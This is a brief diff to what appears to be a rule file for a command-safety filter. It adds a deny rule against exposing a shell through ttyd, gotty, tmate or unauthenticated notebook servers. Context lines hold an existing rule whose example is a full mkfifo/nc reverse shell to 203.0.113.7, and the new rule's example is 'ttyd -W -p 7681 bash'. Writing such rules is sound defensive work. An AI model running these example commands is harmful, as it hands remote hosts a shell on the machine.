@@ -35,3 +35,6 @@ static_rule("EXFIL-005", "exfiltration", "ask",
 static_rule("SHELL-008", "reverse-shell", "deny",
             "a shell is wired to a network connection (fifo or pipe reverse shell, reverse-shell tool)",
             "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f")
+static_rule("SHELL-009", "reverse-shell", "deny",
+            "a terminal or notebook server gives other hosts a shell (ttyd, gotty, tmate; jupyter or code-server "
+            "bound to every address with no token)", "ttyd -W -p 7681 bash")
